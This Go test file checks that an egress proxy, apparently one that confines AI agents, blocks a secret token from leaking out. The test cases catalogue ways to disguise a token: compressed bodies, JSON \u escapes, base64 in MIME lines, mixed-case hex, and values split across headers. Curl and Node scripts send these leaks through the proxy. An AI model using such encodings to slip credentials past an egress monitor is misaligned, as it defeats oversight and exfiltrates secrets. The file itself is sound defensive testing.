package egressproxy

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/andybalholm/brotli"
	"github.com/bot-bottle/bot-bottle/internal/testreq"
	"github.com/klauspost/compress/zstd"
)

// Issue #12, leak 4: a token the agent learned goes out unseen in a
// compressed body, behind JSON \u escapes, in base64 broken into lines,
// split across headers, or in mixed-case hex. Each attack below is sent
// with a real client through the proxy to a real TLS upstream, on an
// authenticated route and on an open one; none may reach the upstream.

// compress applies codings to body in order, with the libraries clients
// use.
func compress(t testing.TB, body []byte, codings ...string) []byte {
	t.Helper()
	for _, c := range codings {
		var buf bytes.Buffer
		var w io.WriteCloser
		switch c {
		case "gzip":
			w = gzip.NewWriter(&buf)
		case "deflate":
			w = zlib.NewWriter(&buf)
		case "br":
			w = brotli.NewWriter(&buf)
		case "zstd":
			zw, err := zstd.NewWriter(&buf)
			if err != nil {
				t.Fatal(err)
			}
			w = zw
		default:
			t.Fatalf("no coding %q", c)
		}
		if _, err := w.Write(body); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		body = buf.Bytes()
	}
	return body
}

// mimeLines breaks s into 76-character lines, as MIME base64 does.
func mimeLines(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\r\n")
		s = s[76:]
	}
	return b.String() + s
}

// mixedCase upper-cases every other hex letter.
func mixedCase(h string) string {
	b := []byte(h)
	n := 0
	for i := range b {
		if b[i] >= 'a' && b[i] <= 'f' {
			if n%2 == 0 {
				b[i] -= 'a' - 'A'
			}
			n++
		}
	}
	return string(b)
}

type leakCase struct {
	name   string
	body   []byte
	header http.Header
	reason string
}

func leakCases(t testing.TB) []leakCase {
	doc := []byte(`{"note":"` + strings.Repeat("x", 30) + testToken + `"}`)
	var jsonU strings.Builder
	for _, c := range []byte(testToken) {
		fmt.Fprintf(&jsonU, `\u%04X`, c)
	}
	// The token's base64 straddles the first line break.
	b64 := mimeLines(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("m", 40) + testToken + strings.Repeat("m", 80))))
	h := hex.EncodeToString([]byte(testToken))
	half := len(testToken) / 2
	return []leakCase{
		{"gzip", compress(t, doc, "gzip"), http.Header{"Content-Encoding": {"gzip"}}, "token_in_body"},
		{"deflate", compress(t, doc, "deflate"), http.Header{"Content-Encoding": {"deflate"}}, "token_in_body"},
		{"br", compress(t, doc, "br"), http.Header{"Content-Encoding": {"br"}}, "token_in_body"},
		{"zstd", compress(t, doc, "zstd"), http.Header{"Content-Encoding": {"zstd"}}, "token_in_body"},
		{"gzip then br", compress(t, doc, "gzip", "br"), http.Header{"Content-Encoding": {"gzip, br"}}, "token_in_body"},
		{"zstd then gzip, two headers", compress(t, doc, "zstd", "gzip"), http.Header{"Content-Encoding": {"zstd", "gzip"}}, "token_in_body"},
		{"json \\u escapes", []byte(`{"note":"` + jsonU.String() + `"}`), nil, "token_in_body"},
		{"base64 in MIME lines", []byte(b64), http.Header{"Content-Transfer-Encoding": {"base64"}}, "token_in_body"},
		{"mixed-case hex body", []byte("h=" + mixedCase(h)), nil, "token_in_body"},
		{"upper-case hex header", nil, http.Header{"X-Trace": {strings.ToUpper(h)}}, "token_in_header"},
		{"mixed-case hex header", nil, http.Header{"X-Trace": {mixedCase(h)}}, "token_in_header"},
		{"split across two headers", nil, http.Header{"X-A": {testToken[:half]}, "X-B": {testToken[half:]}}, "token_in_header"},
		{"split, order reversed", nil, http.Header{"X-A": {testToken[half:]}, "X-B": {"k=" + testToken[:half]}}, "token_in_header"},
		{"repeated header values", nil, http.Header{"X-Part": {testToken[:10], testToken[10:25], testToken[25:]}}, "token_in_header"},
		{"json \\u in a header", nil, http.Header{"X-Note": {jsonU.String()}}, "token_in_header"},
	}
}

// TestEncodedTokenLeaksGoNet sends every leak with Go's net/http client.
func TestEncodedTokenLeaksGoNet(t *testing.T) {
	f := newFixture(t, defaultRoutes)
	for _, host := range []string{"api.allowed.test/repos/myorg", "open.allowed.test"} {
		for i, c := range leakCases(t) {
			path := fmt.Sprintf("/leak%d", i)
			resp, body, err := f.do("POST", "https://"+host+path, bytes.NewReader(c.body), c.header)
			if err != nil {
				t.Fatalf("%s to %s: %v", c.name, host, err)
			}
			if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(body), `"reason":"`+c.reason+`"`) {
				t.Errorf("%s to %s: status %d, want 403 %s", c.name, host, resp.StatusCode, c.reason)
			}
			if bytes.Contains(body, []byte(testToken)) {
				t.Errorf("%s: the denial carries the token", c.name)
			}
			for _, s := range f.up.seen() {
				if strings.HasSuffix(s.URI, path) {
					t.Errorf("%s to %s: the upstream received it", c.name, host)
				}
			}
		}
	}
}

// TestEncodedTokenLeaksCurl sends the compressed leaks with curl, which
// sends the body bytes as given.
func TestEncodedTokenLeaksCurl(t *testing.T) {
	f := newFixture(t, defaultRoutes)
	ca := f.writeCA(t)
	dir := t.TempDir()
	for i, c := range leakCases(t)[:6] {
		file := filepath.Join(dir, fmt.Sprint(i))
		if err := os.WriteFile(file, c.body, 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := run(t, "", nil, "curl", "-sS", "--max-time", "30", "--proxy", f.proxyURL.String(), "--cacert", ca,
			"-H", "Content-Encoding: "+strings.Join(c.header.Values("Content-Encoding"), ", "),
			"--data-binary", "@"+file, "-w", "\n%{http_code}", fmt.Sprintf("https://open.allowed.test/curl%d", i))
		if err != nil || !strings.HasSuffix(out, "\n403") || !strings.Contains(out, `"reason":"token_in_body"`) {
			t.Errorf("%s: %v %q", c.name, err, out)
		}
	}
	if n := len(f.up.seen()); n != 0 {
		t.Errorf("the upstream received %d requests", n)
	}
}

// TestDecompressionBomb: a body that decodes past the limit is refused
// with its own reason, on an authenticated route and elsewhere, and so is
// a compressed body too long to buffer, or one in an unknown coding.
func TestDecompressionBomb(t *testing.T) {
	f := newFixture(t, defaultRoutes, func(c *Config) {
		c.Limits.MaxDecodedBytes = 4 << 20
		c.Limits.BodyBufferBytes = 256 << 10
	})
	bomb := compress(t, make([]byte, 64<<20), "gzip", "br")
	if len(bomb) > 256<<10 {
		t.Fatalf("bomb is %d bytes", len(bomb))
	}
	for _, u := range []string{"https://api.allowed.test/repos/myorg/bomb", "https://open.allowed.test/bomb"} {
		resp, body, err := f.do("POST", u, bytes.NewReader(bomb), http.Header{"Content-Encoding": {"gzip, br"}})
		if err != nil {
			t.Fatal(err)
		}
		d := wantReason(t, resp, body, ReasonDecodedTooLarge)
		if !strings.Contains(d.Error, "decodes to more than") {
			t.Errorf("the denial does not say why: %q", d.Error)
		}
	}
	big := compress(t, bytes.Repeat([]byte("incompressible? no, but long enough "), 1), "gzip")
	big = append(big, make([]byte, 300<<10)...) // longer than the buffer
	resp, body, err := f.do("POST", "https://open.allowed.test/long", bytes.NewReader(big), http.Header{"Content-Encoding": {"gzip"}})
	if err != nil {
		t.Fatal(err)
	}
	wantReason(t, resp, body, ReasonDecodedTooLarge)
	resp, body, err = f.do("POST", "https://open.allowed.test/lzw", strings.NewReader("data"), http.Header{"Content-Encoding": {"compress"}})
	if err != nil {
		t.Fatal(err)
	}
	wantReason(t, resp, body, ReasonBodyNotDecodable)
	if n := len(f.up.seen()); n != 0 {
		t.Errorf("the upstream received %d requests", n)
	}
	// A well-formed compressed body with nothing to hide goes through as sent.
	clean := compress(t, []byte(`{"ok":true}`), "zstd")
	resp, body, err = f.do("POST", "https://open.allowed.test/clean", bytes.NewReader(clean), http.Header{"Content-Encoding": {"zstd"}})
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("clean zstd: %v %d %s", err, resp.StatusCode, body)
	}
	if s := f.up.seen(); len(s) != 1 || !bytes.Equal(s[0].Body, clean) || s[0].Header.Get("Content-Encoding") != "zstd" {
		t.Errorf("clean zstd body not forwarded as sent")
	}
}

// TestEncodedTokenLeaksNode compresses the token with Node's own zlib
// (gzip, deflate, br) and posts it through the tunnel by hand.
func TestEncodedTokenLeaksNode(t *testing.T) {
	if _, err := exec.LookPath("node"); err != nil {
		testreq.Missing(t, "node", err)
	}
	f := newFixture(t, defaultRoutes)
	ca := f.writeCA(t)
	script := `
const http = require('http'), tls = require('tls'), zlib = require('zlib');
const [proxy, host, coding, token] = process.argv.slice(1);
const enc = {gzip: zlib.gzipSync, deflate: zlib.deflateSync, br: zlib.brotliCompressSync}[coding];
const body = enc(Buffer.from(JSON.stringify({note: 'x', t: token})));
const [ph, pp] = proxy.split(':');
http.request({host: ph, port: pp, method: 'CONNECT', path: host + ':443'}).on('connect', (res, socket) => {
  const s = tls.connect({socket, servername: host}, () => {
    s.write('POST /node-' + coding + ' HTTP/1.1\r\nHost: ' + host + '\r\nContent-Encoding: ' + coding +
      '\r\nContent-Length: ' + body.length + '\r\nConnection: close\r\n\r\n');
    s.write(body);
  });
  let raw = ''; s.on('data', d => raw += d);
  s.on('end', () => console.log(raw.split('\r\n')[0], raw.split('\r\n\r\n')[1]));
  s.on('error', e => { console.log('tls error', e.message); process.exit(1); });
}).end();`
	for _, coding := range []string{"gzip", "deflate", "br"} {
		out, err := run(t, "", []string{"NODE_EXTRA_CA_CERTS=" + ca}, "node", "-e", script, f.proxyURL.Host, "open.allowed.test", coding, testToken)
		if err != nil || !strings.Contains(out, " 403 ") || !strings.Contains(out, `"reason":"token_in_body"`) {
			t.Errorf("node %s: %v %q", coding, err, out)
		}
	}
	if n := len(f.up.seen()); n != 0 {
		t.Errorf("the upstream received %d requests", n)
	}
}
